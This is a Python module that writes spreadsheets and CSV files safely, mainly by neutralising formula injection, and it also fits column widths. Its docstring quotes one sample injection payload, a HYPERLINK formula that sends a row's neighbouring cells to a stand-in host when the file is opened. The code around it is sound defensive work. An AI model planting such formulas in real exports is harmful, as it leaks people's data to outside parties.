"""Every spreadsheet and CSV file Laurel writes, written safely: the one writer.

A spreadsheet runs text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (CSV/formula injection: ``=HYPERLINK("http://x?d="&C2,"详情")`` in an
entry's title would send the row's neighbours to a stranger when the office opens the
export). So, as OWASP recommends, such *text* is written with a single quote in front
(``'=HYPERLINK(...)``); the full-width forms (``＝``, ``＋``, ``－``, ``＠``, and any character
NFKC folds into one of them) too, since spreadsheet apps may fold them. Numbers, dates,
times and booleans are written as themselves: a negative *number* stays a number. In .xlsx
every text cell is also stored as a string (never a formula) whatever it holds.

``xlsx_write`` writes workbooks in openpyxl's write-only mode (a row at a time: big sheets
fit), header row bold and frozen, an autofilter over the header and the data, and columns as
wide as their content (``column_widths``: measured on the header and the first
``FIT_SAMPLE_ROWS`` rows, wide characters counted double, capped at ``WIDTH_MAX``);
``csv_text`` writes CSV; ``text_safe`` makes plain text that a spreadsheet may open (a .txt
of captions) safe line by line and field by field. ``tests/test_layers.py`` fails when any
other module creates a workbook or a CSV writer.
"""

import csv
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from itertools import chain, islice

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

FORMULA_TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"
SHEET_TITLE_LENGTH = 31  # Excel's limit
KEPT_TYPES = (bool, int, float, Decimal, date, time, timedelta)  # datetime is a date
BOLD = Font(bold=True)
FIT = "fit"  # ``Sheet.widths``: as wide as the content
FIT_SAMPLE_ROWS = 1000  # the rows a fitted sheet is measured on (held while measured)
WIDTH_PADDING = 2  # characters beside the widest value
FILTER_BUTTON = 2  # characters the autofilter's drop-down button covers in a header cell
WIDTH_MIN = 6
WIDTH_MAX = 60  # longer text wraps out of view rather than widen the column further
NUMBER_WIDTH_MAX = 12  # a spreadsheet shows a long number rounded ("General" format)
# what a spreadsheet shows for a value of these types (openpyxl's default formats)
SHOWN_WIDTHS = ((bool, 5), (datetime, 19), (date, 10), (time, 8), (timedelta, 10))


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could take ``text`` for a formula (by its first character,
    full-width forms included)."""
    first = text[:1]
    return bool(first) and (
        first in FORMULA_TRIGGERS or unicodedata.normalize("NFKC", first)[:1] in FORMULA_TRIGGERS
    )


def cell_safe(value: object) -> object:
    """``value`` as a cell should hold it: numbers, dates, times, booleans and ``None`` as
    they are; anything else as text, with a leading ``'`` when it is ``formula_like``."""
    if value is None or isinstance(value, KEPT_TYPES):
        return value
    text = value if isinstance(value, str) else str(value)
    return QUOTE + text if formula_like(text) else text


@dataclass(frozen=True)
class Sheet:
    """One sheet to write: its title (cut to 31 characters), an optional header row (bold,
    frozen, with an autofilter over it and the data unless ``autofilter`` is false), its rows
    (any iterable: a generator keeps memory flat) and its column widths from column A —
    ``FIT`` (the default) measures them from the content (``column_widths``)."""

    title: str
    rows: Iterable[Sequence[object]]
    header: Sequence[object] = ()
    widths: Sequence[float] | str = FIT
    autofilter: bool = True


def xlsx_write(sheets: Iterable[Sheet]) -> bytes:
    """A workbook of ``sheets``, in order, every cell through ``cell_safe``."""
    workbook = Workbook(write_only=True)
    for spec in sheets:
        sheet = workbook.create_sheet(spec.title[:SHEET_TITLE_LENGTH])
        rows, widths = iter(spec.rows), spec.widths
        filtered = spec.autofilter and bool(spec.header)
        if widths == FIT:
            measured = list(islice(rows, FIT_SAMPLE_ROWS))
            widths = column_widths(spec.header, measured, filter_buttons=filtered)
            rows = chain(measured, rows)
        for column, width in enumerate(widths, start=1):  # before the first row: write-only
            sheet.column_dimensions[get_column_letter(column)].width = width
        if spec.header:
            sheet.freeze_panes = "A2"
            sheet.append([_xlsx_cell(sheet, value, bold=True) for value in spec.header])
        written = 0
        for row in rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
            written += 1
        if filtered:  # the filter is written after the rows, so their number is known
            last = get_column_letter(len(spec.header))
            sheet.auto_filter.ref = f"A1:{last}{written + 1}"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def text_width(text: str) -> int:
    """The columns ``text`` takes in a spreadsheet: its longest line, a wide or full-width
    character (Chinese, Japanese, Korean) counted as two, a combining mark as none."""
    return max(
        (
            sum(
                0
                if unicodedata.combining(character)
                else 2
                if unicodedata.east_asian_width(character) in "WF"
                else 1
                for character in line
            )
            for line in text.splitlines()
        ),
        default=0,
    )


def value_width(value: object) -> int:
    """The columns a cell holding ``value`` shows it in (as ``cell_safe`` writes it)."""
    value = cell_safe(value)
    if value is None:
        return 0
    for kind, width in SHOWN_WIDTHS:  # bool before int, datetime before date
        if isinstance(value, kind):
            return width
    if isinstance(value, str):
        return text_width(ILLEGAL_CHARACTERS_RE.sub("", value))
    return min(len(str(value)), NUMBER_WIDTH_MAX)


def column_widths(
    header: Sequence[object], rows: Iterable[Sequence[object]], *, filter_buttons: bool = False
) -> list[float]:
    """Each column's width, from column A: its widest value (``value_width``) or header
    (plus the autofilter's button when ``filter_buttons``), with ``WIDTH_PADDING``, within
    ``WIDTH_MIN`` and ``WIDTH_MAX``."""
    widest = [value_width(value) + (FILTER_BUTTON if filter_buttons else 0) for value in header]
    for row in rows:
        for column, value in enumerate(row):
            width = value_width(value)
            if column == len(widest):
                widest.append(width)
            elif width > widest[column]:
                widest[column] = width
    return [float(min(max(width + WIDTH_PADDING, WIDTH_MIN), WIDTH_MAX)) for width in widest]


def _xlsx_cell(sheet, value: object, *, bold: bool = False):
    value = cell_safe(value)
    if not isinstance(value, str) and not bold:
        return value  # a number, a date, a boolean or nothing: openpyxl types it
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)  # control characters XML cannot hold
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        cell.data_type = "s"  # text is text, never a formula, whatever it starts with
    if bold:
        cell.font = BOLD
    return cell


def csv_text(rows: Iterable[Sequence[object]], *, line_end: str = "\r\n") -> str:
    """``rows`` (header first, if any) as CSV text, every cell through ``cell_safe``;
    ``None`` is an empty cell. The caller encodes it (UTF-8, with a byte-order mark for
    files Excel opens)."""
    lines, line = [], io.StringIO()
    # csv quotes a field holding a character of the line end, so with "\n" alone a bare "\r"
    # would go unquoted and start a new row (and a formula) in the reader: each row is
    # written with "\r\n", which quotes both, and its end then swapped for ``line_end``.
    writer = csv.writer(line, lineterminator="\r\n")
    for row in rows:
        writer.writerow([cell_safe(value) for value in row])
        lines.append(line.getvalue().removesuffix("\r\n") + line_end)
        line.seek(0)
        line.truncate()
    return "".join(lines)


LINE_OR_FIELD_BREAK = re.compile(r"([\t\r\n])")


def text_safe(text: str) -> str:
    """Plain text a spreadsheet may open (a .txt splits into cells at line breaks and
    tabs): every line and tab-separated field that is ``formula_like`` gets a leading
    ``'``; everything else is unchanged."""
    parts = LINE_OR_FIELD_BREAK.split(text)
    return "".join(
        part if LINE_OR_FIELD_BREAK.fullmatch(part) else cell_safe(part) for part in parts
    )
